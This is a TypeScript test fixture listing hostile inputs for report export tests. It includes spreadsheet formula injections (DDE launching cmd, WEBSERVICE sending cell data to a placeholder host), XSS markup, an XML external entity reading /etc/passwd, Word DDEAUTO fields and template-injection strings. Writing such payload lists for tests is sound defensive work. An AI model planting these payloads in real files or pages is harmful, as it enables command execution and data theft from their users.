/** What attackers type into a report, for the tests: formulas, markup, fields of Word and characters no file can hold. */

const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '"=', ';=', '|='];
const formulas = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://x.example","y")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://x.example/?"&A1)',
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML("http://x.example","//a")',
  "'file:///etc/passwd'#$Sheet1.A1",
  'INDIRECT("R1C1",FALSE)',
  'IMAGE("http://x.example/a.png")',
];

const tags = [
  ...['script', 'img', 'svg', 'iframe', 'object', 'embed', 'style', 'link', 'base', 'form', 'meta', 'video'],
  ...['math', 'details', 'a'],
];
const markup = (tag: string) => [
  `<${tag}>`,
  `<${tag} onload=alert(1) onerror=alert(1)>`,
  `<${tag} src="javascript:alert(1)" href='//x.example'>`,
  `</p></td></${tag}><${tag}>alert(1)</${tag}>`,
  `"><${tag}/x="`,
  `&lt;${tag}&gt;&#60;${tag}&#x3e;`,
  `<!--<${tag}>-->`,
];

const xml = [
  ']]>',
  '<![CDATA[x]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<?xml version="1.0"?><x/>',
  '&e; &#0; &#xfffe; &',
  '</w:t></w:r></w:p><w:p><w:r><w:t>x',
  '<w:fldSimple w:instr="DDEAUTO c:\\\\x cmd"/>',
  '<w:instrText>INCLUDEPICTURE "http://x.example/a.png"</w:instrText>',
  '{ DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" }',
  '</t></is></c><c t="str"><f>1+1</f>',
  '<f>WEBSERVICE("http://x.example")</f>',
  '{{=1+1}} ${1+1} <%= 1 %>',
];

const range = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, at) => String.fromCharCode(from + at));
const odd = [
  ...[...range(0x00, 0x1f), ...range(0x7f, 0x9f)],
  ...[...range(0x200b, 0x200f), ...range(0x2028, 0x202e), ...range(0x2066, 0x2069)],
  ...['\ufeff', '\ufffe', '\uffff', '\ud800', '\udc00', '\u{1fffe}', '\u00ad'],
].map((character) => `甲${character}=1${character}乙`);

export const hostilePayloads: readonly string[] = [
  ...starts.flatMap((start) => formulas.map((formula) => start + formula)),
  ...tags.flatMap(markup),
  ...xml,
  ...odd,
];
